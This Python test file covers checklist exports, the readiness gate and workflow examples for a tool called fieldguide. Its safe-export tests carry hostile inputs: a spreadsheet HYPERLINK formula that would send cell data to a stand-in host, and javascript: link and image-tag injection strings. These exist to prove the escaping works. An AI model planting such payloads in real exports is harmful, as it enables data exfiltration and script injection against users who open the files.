"""Checklist exports (golden files per format), import round-trip, orphans and malformed files."""

from __future__ import annotations

import csv
import html
import io
import json
import os
import re
import shutil
import subprocess
import sys
from datetime import UTC, datetime
from pathlib import Path

import markdown
import pytest
import yaml
from click.testing import CliRunner

from conftest import HERE, VALID, cli
from fieldguide import checklist, escape, graph, load
from fieldguide.cli import main

STATES = HERE / "states"
GOLDEN = HERE / "golden" / "checklist"
NOW = datetime(2026, 11, 27, 12, 0, tzinfo=UTC)
SITE = "https://guide.example.org/"


def exports() -> dict[str, str]:
    cat = load.load(VALID)
    g = graph.build(cat)
    state, problems = checklist.read_state(STATES / "progress.json", cat)  # a version 1 file
    team, problems2 = checklist.read_state(STATES / "team.json", cat)  # version 2: every status, hostile text
    assert problems == problems2 == []
    rows = checklist.rows(cat)
    title = "Deployment checklist: all stages"
    return {
        "progress.md": checklist.to_markdown(cat, g, rows, state, SITE, title, compact=True),
        "progress.csv": checklist.to_csv(cat, g, rows, state),
        "progress.json": checklist.to_json(cat, rows, state, now=NOW),
        "team.md": checklist.to_markdown(cat, g, rows, team, SITE, title, compact=True),
        "team-full.md": checklist.to_markdown(cat, g, rows, team, SITE, title),
        "team.csv": checklist.to_csv(cat, g, rows, team),
    }


@pytest.mark.parametrize("name", ["progress.md", "progress.csv", "progress.json", "team.md", "team-full.md",
                                  "team.csv"])
def test_export_matches_golden_file(name: str) -> None:
    text = exports()[name]
    if os.environ.get("UPDATE_GOLDEN"):
        GOLDEN.mkdir(parents=True, exist_ok=True)
        (GOLDEN / name).write_text(text, encoding="utf-8")
    assert text == (GOLDEN / name).read_text(encoding="utf-8")


def test_markdown_is_a_task_list_with_links_and_readiness() -> None:
    text = exports()["progress.md"]
    assert "Readiness: **0%**" in text, "the lowest stage: model deployment has 0 of 1 done"
    assert "### Data management — 50% (1/2 resolved)" in text, "one item done, one of the other two not applicable"
    assert "| Data management | 50% | 1 | 0 | 0 | 1 | 1 |" in text, "the summary table a reviewer reads first"
    assert "- [x] Every data source has a named owner. — owner: Ana — note: See the data map in the wiki" in text
    assert "[Data discovery](https://guide.example.org/challenges/data-discovery/)" in text
    assert "&lt;b>source&lt;/b>" in text, "user text cannot inject HTML into a rendered Markdown file"


def test_compact_markdown_shows_what_is_still_open_first_and_folds_the_rest() -> None:
    text = exports()["team.md"]
    head, folded = text.split("<details>")
    assert "## Still open (2)" in head and "(in progress)" in head and "feedback-loops-holdout" in head
    assert "data-discovery-source-owners" not in head and "data-discovery-catalogue" not in head
    assert "<summary>Done, accepted risk or not applicable (2)</summary>" in folded
    assert "precedents:" not in text and "also covers" not in text, "compact: no reference notes"
    assert "precedents:" in exports()["team-full.md"], "--full keeps them"


@pytest.mark.parametrize("name", ["team.md", "team-full.md", "progress.md"])
def test_accepted_risk_and_not_applicable_are_never_ticked_boxes(name: str) -> None:
    for line in exports()[name].splitlines():
        if "accepted risk" in line.lower() or "not applicable" in line.lower():
            assert not line.startswith(("- [x]", "- [ ]")), line
    rendered = markdown.markdown(exports()[name])
    assert "Accepted risk:" in rendered or "Not applicable:" in rendered


def test_the_compact_markdown_of_the_real_catalog_is_short_enough_for_a_comment(tmp_path: Path) -> None:
    """The issue measured 395 lines and 50,000 characters for all stages. Compact, a team with half its
    items resolved posts the open half in full and folds the rest; GitHub's comment limit is 65,536."""
    from conftest import REAL

    cat = load.load(REAL)
    rows = checklist.rows(cat)
    items = [{"id": r.item.id, "status": "done" if n % 2 else "open"} for n, r in enumerate(rows)]
    path = tmp_path / "half.json"
    path.write_text(json.dumps({"format": "fieldguide-checklist", "version": 3, "items": items}), encoding="utf-8")
    result = CliRunner().invoke(main, ["checklist", "--catalog", str(REAL), "--state", str(path)])
    head = result.stdout.split("<details>")[0]
    assert result.exit_code == 0 and len(result.stdout) < 65536
    assert head.count("\n- [ ]") == sum(1 for i in items if i["status"] == "open")


def test_import_round_trip_restores_the_exact_state(tmp_path: Path) -> None:
    cat = load.load(VALID)
    exported = tmp_path / "exported.json"
    exported.write_text(exports()["progress.json"], encoding="utf-8")
    state, problems = checklist.read_state(exported, cat)
    assert problems == []
    again = checklist.to_json(cat, checklist.rows(cat), state, now=NOW)
    assert again == exports()["progress.json"]


def test_orphaned_items_are_kept_and_listed() -> None:
    cat = load.load(VALID)
    state, _ = checklist.read_state(STATES / "progress.json", cat)
    assert [o.id for o in state.orphans] == ["retired-check-from-an-old-catalog"]
    body = json.loads(exports()["progress.json"])
    assert {"id": "retired-check-from-an-old-catalog", "status": "done", "note": "kept, not dropped"} in body["items"]
    assert "## Items no longer in the catalog" in exports()["progress.md"]
    assert exports()["progress.csv"].splitlines()[-1].startswith(",,,retired-check-from-an-old-catalog,")


def test_orphans_that_are_not_applicable_or_accepted_risks_are_not_ticked_boxes(valid_catalog: Path,
                                                                                tmp_path: Path) -> None:
    state = tmp_path / "orphans.json"
    state.write_text(json.dumps({"format": "fieldguide-checklist", "version": 3, "items": [
        {"id": "gone-na", "status": "na", "reason": "dropped"},
        {"id": "gone-risk", "status": "accepted-risk", "reason": "known"},
        {"id": "gone-done", "status": "done"}]}), encoding="utf-8")
    text = cli("checklist", "--state", state).stdout
    orphans = text.split("## Items no longer in the catalog")[1].strip().splitlines()
    assert orphans == ["- [x] `gone-done` (done)", "- **Not applicable:** `gone-na`",
                       "- **Accepted risk:** `gone-risk`"], "in id order, as the page lists them"


def test_cli_warns_about_change_times_from_the_future_when_reading_a_state(valid_catalog: Path) -> None:
    result = cli("checklist", "--state", HERE / "states" / "corpus" / "accept" / "v3-far-future.json")
    assert "warning: " in result.stderr and "9999-12-31T23:59:59Z is more than a day ahead" in result.stderr


def test_cli_checklist_with_state_reports_orphans(valid_catalog: Path) -> None:
    result = cli("checklist", "--format", "json", "--state", STATES / "progress.json")
    assert "1 item(s) in" in result.stderr and "retired-check-from-an-old-catalog" in result.stderr
    items = {i["id"]: i for i in json.loads(result.stdout)["items"]}
    assert items["data-discovery-catalogue"]["reason"] == "Single <b>source</b> system"
    assert json.loads(result.stdout)["version"] == 3, "a version 1 file comes back as version 3"


@pytest.mark.parametrize(("name", "expected"), [
    ("malformed.json", "malformed.json:6: checklist: items[1].status: must be one of 'open', 'done' or 'na'"),
    ("truncated.json", "truncated.json:3: checklist: -: not valid JSON: Expecting value"),
])
def test_cli_refuses_a_malformed_state_and_writes_nothing(valid_catalog: Path, tmp_path: Path, name: str,
                                                          expected: str) -> None:
    out = tmp_path / "out.md"
    result = cli("checklist", "--state", STATES / name, "--out", out, code=1)
    assert expected in result.stderr
    assert not out.exists()


def test_cli_checklist_of_two_stages_names_them(valid_catalog: Path) -> None:
    result = CliRunner().invoke(main, ["checklist", "--stage", "data-management", "--stage", "model-deployment"])
    assert result.exception is None
    assert result.stdout.startswith("# Deployment checklist: Data management, Model deployment\n")


def test_cli_checklist_limits_to_a_stage(valid_catalog: Path) -> None:
    result = cli("checklist", "--stage", "model-deployment", "--format", "csv")
    rows = result.stdout.splitlines()
    assert rows[0] == "stage,step,challenge,item_id,text,status,reason,owner,note,evidence,updated,by,covers"
    assert [r.split(",")[3] for r in rows[1:]] == ["feedback-loops-holdout"]
    assert rows[1].endswith(",Example rubric M1"), "each check says which framework items it covers"
    result = cli("checklist", "--stage", "deploy", code=1)
    assert "unknown stage 'deploy'" in result.stderr


def test_brief_has_checklists_precedents_mitigations_and_references(valid_catalog: Path, tmp_path: Path) -> None:
    out = tmp_path / "brief.md"
    cli("brief", "--challenge", "data-discovery", "--out", out, "--site-url", SITE)
    text = out.read_text(encoding="utf-8")
    assert "## [Data discovery](https://guide.example.org/challenges/data-discovery/)" in text
    assert "- [ ] Every data source has a named owner. `data-discovery-source-owners`" in text
    assert "(Twitter, reported 2013)" in text and "    - 1 entity: the same user, stored by many services" in text
    assert "[Data catalogue](https://guide.example.org/mitigations/data-catalog-practice/)" in text
    assert "[@lin2013scaling]" in text and text.endswith("## References\n\n::: {#refs}\n:::\n"), "citeproc's list"
    bib = (tmp_path / "brief.bib").read_text(encoding="utf-8")
    assert "@article{lin2013scaling," in bib and "@misc{paleyes2020challenges," in bib


# ---------------------------------------------------------------- readiness, the gate, the plan layout


def test_readiness_is_done_over_applicable_and_overall_is_the_lowest_stage() -> None:
    cat = load.load(VALID)
    statuses = {"data-discovery-source-owners": "done", "data-discovery-catalogue": "na",
                "data-profiling-report": "open", "feedback-loops-holdout": "done"}
    per_stage = checklist.readiness(cat, statuses)
    assert per_stage["data-management"] == checklist.Readiness(done=1, applicable=2)
    assert per_stage["data-management"].score == 0.5
    assert per_stage["model-deployment"].score == 1.0
    assert checklist.overall(per_stage) == 0.5
    assert checklist.readiness(cat, {"feedback-loops-holdout": "na"})["model-deployment"].score is None


def test_accepted_risk_counts_as_resolved_and_in_progress_does_not() -> None:
    cat = load.load(VALID)
    per_stage = checklist.readiness(cat, {"data-discovery-source-owners": "accepted-risk",
                                     "data-discovery-catalogue": "in-progress", "data-profiling-report": "na"})
    r = per_stage["data-management"]
    assert (r.done, r.accepted, r.resolved, r.applicable, r.score) == (0, 1, 1, 2, 0.5)


def test_single_stage_markdown_does_not_call_its_readiness_the_lowest_stage(valid_catalog: Path) -> None:
    one = cli("checklist", "--stage", "data-management", "--state", STATES / "team.json")
    every = cli("checklist", "--state", STATES / "team.json")
    assert "Readiness: **67%**. Readiness = " in one.stdout and "lowest" not in one.stdout
    assert "Readiness: **0%**, the lowest stage's." in every.stdout


@pytest.mark.parametrize(("args", "code", "expected"), [
    ([], 1, ["data-management: Data management: 67% (2/3 resolved) — below 100%",
             "  in progress data-profiling-report: A profile report exists for every training set. (owner: -Kim)",
             "model-deployment: Model deployment: 0% (0/1 resolved) — below 100%",
             "  open        feedback-loops-holdout: A holdout group never sees model output. (owner: Raj)",
             "gate failed: 2 of 2 stage(s) below 100% readiness"]),
    (["--stage", "data-management", "--min-readiness", "0.6"], 0,
     ["data-management: Data management: 67% (2/3 resolved) — ready",
      "gate passed: 1 stage(s) at or above 60% readiness"]),
    (["--stage", "data-management", "--min-readiness", "0.7"], 1,
     ["data-management: Data management: 67% (2/3 resolved) — below 70%",
      "  in progress data-profiling-report: A profile report exists for every training set. (owner: -Kim)",
      "gate failed: 1 of 1 stage(s) below 70% readiness"]),
])
def test_gate_passes_and_fails_listing_the_open_items(valid_catalog: Path, args: list[str], code: int,
                                                      expected: list[str]) -> None:
    result = cli("gate", "--state", STATES / "team.json", *args, code=code)
    assert result.stdout.splitlines() == expected


def test_gate_passes_when_every_applicable_item_is_resolved(valid_catalog: Path, tmp_path: Path) -> None:
    state = tmp_path / "ready.json"
    state.write_text(json.dumps({"format": "fieldguide-checklist", "version": 2, "items": [
        {"id": "data-discovery-source-owners", "status": "done"},
        {"id": "data-discovery-catalogue", "status": "accepted-risk", "reason": "one source"},
        {"id": "data-profiling-report", "status": "na", "reason": "no training data of our own"},
        {"id": "feedback-loops-holdout", "status": "na", "reason": "batch scoring only"}]}))
    result = cli("gate", "--state", state)
    assert "model-deployment: Model deployment: n/a (0/0 resolved) — ready" in result.stdout, "nothing applies"


@pytest.mark.parametrize(("args", "message"), [
    (["--state", STATES / "malformed.json"], "malformed.json:6: checklist: items[1].status:"),
    (["--state", STATES / "truncated.json"], "not valid JSON"),
    (["--state", STATES / "no-such-file.json"], "no-such-file.json:1: checklist: -: cannot read file"),
    (["--state", STATES / "team.json", "--stage", "deploy"], "unknown stage 'deploy'"),
    (["--state", STATES / "team.json", "--catalog", "no-such-folder"], "catalog folder not found"),
    (["--state", STATES / "team.json", "--min-readiness", "1.5"], "is not in the range"),
    (["--stage", "data-management"], "Missing option '--state'"),
])
def test_gate_exits_2_when_it_cannot_decide(valid_catalog: Path, args: list, message: str) -> None:
    """0 ready, 1 not ready, 2 for usage or setup errors: a CI job can tell "not ready" from "broken"."""
    result = cli("gate", *args, code=2)
    assert message in result.stderr and result.stdout == ""


def test_plan_markdown_lists_challenges_in_rank_order_without_repeating_stage_headings(valid_catalog: Path,
                                                                                        tmp_path: Path) -> None:
    profile = tmp_path / "p.yaml"
    profile.write_text("name: Fraud model\nindustry: healthcare\ntraits: [regulated]\n")
    result = cli("plan", "--profile", profile, "--format", "md")
    assert re.findall(r"^## .*", result.stdout, re.MULTILINE) == ["## Challenges, most likely to matter first"]
    ranked = re.findall(r"^### (\d+)\. \[(.+?)\]", result.stdout, re.MULTILINE)
    assert [n for n, _ in ranked] == [str(i) for i in range(1, len(ranked) + 1)] and len(ranked) == 3


# ---------------------------------------------------------------- safe exports: every CSV, every Markdown


FORMULAS = ("=", "+", "-", "@", "\t", "\r", "\n")


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_every_csv_the_project_writes_starts_no_formula(valid_catalog: Path, tmp_path: Path) -> None:
    profile = tmp_path / "p.yaml"
    profile.write_text("industry: healthcare\n")
    outputs = {
        "checklist": cli("checklist", "--format", "csv", "--state", STATES / "team.json"),
        "plan": cli("plan", "--profile", profile, "--format", "csv", "--state", STATES / "team.json"),
        "export": cli("export", "--format", "csv"),
    }
    for name, result in outputs.items():
        bad = [c for c in _cells(result.stdout) if c.startswith(FORMULAS)]
        assert bad == [], name
    assert "'=HYPERLINK(\"http://x.example/?\"&A1,\"go\")" in _cells(outputs["checklist"].stdout)
    assert "'@raj" in _cells(outputs["plan"].stdout) and "'-Kim" in _cells(outputs["plan"].stdout)


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "\nx", "plain", "", "'quoted"])
def test_csv_cell_follows_owasp(text: str) -> None:
    assert escape.csv_cell(text) == ("'" + text if text[:1] in FORMULAS and text else text)


def test_markdown_text_cannot_start_a_link_image_code_span_or_tag() -> None:
    hostile = "[x](javascript:alert(1)) ![i](http://x.example/a.png) <img src=x> `c` \\[y](z)"
    rendered = markdown.markdown("- " + escape.markdown_text(hostile))
    assert "<a" not in rendered and "<img" not in rendered and "<code" not in rendered
    assert "[x](javascript:alert(1))" in html.unescape(re.sub(r"<[^>]+>", "", rendered))


# ---------------------------------------------------------------- the team workflow, as documented


DOCS = HERE.parent / "scripts" / "fieldguide" / "templates" / "team_workflow.md.j2"
EXAMPLE = HERE.parent / "examples" / "github-actions" / "deployment-readiness.yml"


def _example_steps() -> tuple[dict, list[str]]:
    """The example's guide checkout step, and its `run` commands that call fieldguide."""
    steps = yaml.safe_load(EXAMPLE.read_text(encoding="utf-8"))["jobs"]["gate"]["steps"]
    guide = next(s for s in steps if s.get("with", {}).get("repository") == "OWNER/field-guide")
    return guide, [s["run"] for s in steps if "fieldguide" in s.get("run", "")]


def _run_example(tmp_path: Path, bin_dir: Path, catalog: Path, ready: bool) -> list[subprocess.CompletedProcess]:
    """Lay out the folders as the job checks them out (project/ and field-guide/) and run the example's
    commands in bash, as the runner does, with `fieldguide` from `bin_dir`."""
    work = tmp_path / ("ready" if ready else "not-ready")
    (work / "project" / "planning").mkdir(parents=True)
    shutil.copytree(catalog, work / "field-guide" / "catalog")
    env = {**os.environ, "PATH": f"{bin_dir}{os.pathsep}{os.environ['PATH']}",
           "GITHUB_STEP_SUMMARY": str(work / "summary.md")}
    blank = subprocess.run(["fieldguide", "checklist", "--catalog", "field-guide/catalog", "--format", "json"],
                           cwd=work, env=env, capture_output=True, text=True, check=True)
    state = json.loads(blank.stdout)
    for item in state["items"]:
        item["status"] = "done" if ready else "open"
    (work / "project" / "planning" / "checklist.json").write_text(json.dumps(state), encoding="utf-8")
    _, commands = _example_steps()
    return [subprocess.run(["bash", "-e", "-o", "pipefail", "-c", command], cwd=work, env=env, capture_output=True,
                           text=True, check=False, timeout=300) for command in commands]


def test_the_github_actions_example_is_the_one_in_the_docs() -> None:
    text = EXAMPLE.read_text(encoding="utf-8")
    assert "```yaml\n" + text + "```" in DOCS.read_text(encoding="utf-8")
    assert len(_example_steps()[1]) == 2


def test_the_examples_steps_run_against_this_checkout(tmp_path: Path) -> None:
    bin_dir = Path(sys.executable).parent  # the installed `fieldguide` of this checkout
    from conftest import REAL

    ready = _run_example(tmp_path, bin_dir, REAL, ready=True)
    assert [r.returncode for r in ready] == [0, 0], [r.stderr for r in ready]
    summary = (tmp_path / "ready" / "summary.md").read_text(encoding="utf-8")
    assert summary.startswith("# Deployment checklist: all stages") and "## Still open (0)" in summary
    assert "gate passed: 2 stage(s)" in ready[1].stdout
    not_ready = _run_example(tmp_path, bin_dir, REAL, ready=False)
    assert [r.returncode for r in not_ready] == [0, 1] and "gate failed" in not_ready[1].stdout


def _git(*args: str) -> subprocess.CompletedProcess:
    return subprocess.run(["git", *args], cwd=HERE.parent, capture_output=True, check=False)


def test_the_example_pins_a_commit_of_this_repository_whose_fieldguide_runs_its_steps(tmp_path: Path) -> None:
    """This repository has no tags: the example pins a full commit SHA. It must be in this repository's
    history, and the fieldguide of that very commit must run the example's steps (gate and all)."""
    guide, _ = _example_steps()
    ref = guide["with"]["ref"]
    assert re.fullmatch(r"[0-9a-f]{40}", ref), "a full commit SHA: a branch moves, a short SHA can become ambiguous"
    if _git("rev-parse", "--is-shallow-repository").stdout.strip() != b"false":
        pytest.skip("not a full git clone (shallow or no git): the pinned commit cannot be looked up")
    assert _git("cat-file", "-e", f"{ref}^{{commit}}").returncode == 0, f"{ref} is not a commit of this repository"
    assert _git("merge-base", "--is-ancestor", ref, "HEAD").returncode == 0, f"{ref} is not in the history of HEAD"
    pinned = tmp_path / "pinned"
    pinned.mkdir()
    archive = _git("archive", "--format=tar", ref, "scripts", "catalog")
    subprocess.run(["tar", "-x", "-C", str(pinned)], input=archive.stdout, check=True)
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    wrapper = bin_dir / "fieldguide"
    wrapper.write_text(f"#!/bin/sh\nPYTHONPATH={pinned / 'scripts'} exec {sys.executable} -m fieldguide \"$@\"\n")
    wrapper.chmod(0o755)
    ready = _run_example(tmp_path, bin_dir, pinned / "catalog", ready=True)
    assert [r.returncode for r in ready] == [0, 0], [r.stderr for r in ready]
    not_ready = _run_example(tmp_path, bin_dir, pinned / "catalog", ready=False)
    assert [r.returncode for r in not_ready] == [0, 1]
    v3 = tmp_path / "v3.json"
    v3.write_text(json.dumps({"format": "fieldguide-checklist", "version": 3, "items": [
        {"id": "x-one", "status": "done", "changed": {"status": {"at": "2026-12-01T10:00:00Z", "by": "Ana"}}}]}))
    merged = subprocess.run([str(wrapper), "checklist", "merge", str(v3), str(v3)], capture_output=True, text=True,
                            check=False)
    assert merged.returncode == 0, "the pinned fieldguide reads the state files the site exports now"
    missing = subprocess.run([str(wrapper), "gate", "--catalog", str(tmp_path / "nowhere"), "--state", str(v3)],
                             capture_output=True, text=True, check=False)
    assert missing.returncode == 2, "and tells a setup error from a stage that is not ready"


def test_git_merges_the_state_file_with_the_documented_driver(tmp_path: Path) -> None:
    """The merge driver from the docs, in a real repository: two branches change the state file."""
    def git(*args: str) -> str:
        return subprocess.run(["git", *args], cwd=tmp_path, check=True, capture_output=True, text=True).stdout

    exe = shutil.which("fieldguide") or str(Path(sys.executable).parent / "fieldguide")
    git("init", "-q", "-b", "main")
    git("config", "user.email", "t@example.org")
    git("config", "user.name", "T")
    git("config", "merge.fieldguide-checklist.driver", f"{exe} checklist merge %A %B --out %A")
    (tmp_path / ".gitattributes").write_text("planning/checklist.json merge=fieldguide-checklist\n")
    (tmp_path / "planning").mkdir()
    state = tmp_path / "planning" / "checklist.json"

    def write(items: list[dict]) -> None:
        state.write_text(json.dumps({"format": "fieldguide-checklist", "version": 2, "items": items}, indent=2))

    a, b = "data-discovery-source-owners", "data-discovery-catalogue"
    write([{"id": a}, {"id": b}])
    git("add", ".")
    git("commit", "-qm", "start")
    git("checkout", "-qb", "raj")
    write([{"id": a}, {"id": b, "status": "na", "reason": "one source", "updated": "2026-11-29T10:00:00Z"}])
    git("commit", "-qam", "raj")
    git("checkout", "-q", "main")
    write([{"id": a, "status": "done", "updated": "2026-11-29T09:00:00Z"}, {"id": b}])
    git("commit", "-qam", "ana")
    git("merge", "-q", "raj", "-m", "merge")  # raises if git reports a conflict
    merged = {i["id"]: i for i in json.loads(state.read_text())["items"]}
    assert merged[a]["status"] == "done" and merged[b]["status"] == "na"
